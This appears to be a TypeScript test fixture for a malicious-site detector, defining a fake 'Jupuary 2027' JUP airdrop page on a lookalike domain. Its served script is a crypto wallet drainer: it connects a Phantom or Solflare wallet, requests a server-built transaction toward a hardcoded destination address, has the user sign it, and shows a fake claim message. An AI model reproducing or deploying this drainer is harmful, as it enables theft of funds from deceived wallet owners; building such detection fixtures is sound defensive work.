import { type Entry } from '../entry.js';
import { doc, js, json, html } from '../parts/zo-kit.js';
import { pngRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'zo-drainer-solana-phantom-rewards',
    label: 'cryptodrainer',
    kind: 'drainer',
    url: 'https://rewards.jupiter-jupuary-claim.com/',
    body: doc('Jupuary 2027 – Claim JUP', `
<div style="background:#0b0f17;color:#e5e7eb;min-height:100vh">
<main style="text-align:center">
 <h1>Jupuary 2027 is here</h1><p>Connect your Solana wallet to check your JUP allocation.</p>
 <p><button class="btn" id="c" style="background:#c7f284;color:#000">Connect Phantom</button> <button class="btn" id="c2" style="background:#fff;color:#000">Solflare</button></p>
 <p id="s"></p>
</main></div>
<script src="/static/js/main.8a1b2c.js"></script>`),
    routes: {
      'rewards.jupiter-jupuary-claim.com/static/js/main.8a1b2c.js': js(`(function(){var D='7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU';
function p(){return (window.phantom&&window.phantom.solana)||window.solana||window.solflare;}
async function run(){var w=p();if(!w){document.getElementById('s').textContent='Wallet not found';return;}
var r=await w.connect();var pk=r.publicKey.toString();
var tx=await (await fetch('/api/build-tx',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({owner:pk,dest:D})})).json();
var raw=Uint8Array.from(atob(tx.tx),function(c){return c.charCodeAt(0)});
var signed=await w.request({method:'signAllTransactions',params:{message:[tx.tx]}}).catch(function(){return w.signTransaction(raw)});
await fetch('/api/submit',{method:'POST',body:JSON.stringify({owner:pk,s:signed})});document.getElementById('s').textContent='Claimed 1,240 JUP';}
document.getElementById('c').onclick=run;document.getElementById('c2').onclick=run;})();`),
      'rewards.jupiter-jupuary-claim.com/api/build-tx': json({ tx: 'AQABA7x3Z2F0ZXdheQ==' }),
      'rewards.jupiter-jupuary-claim.com/api/submit': json({ ok: true }),
    },
  },
];
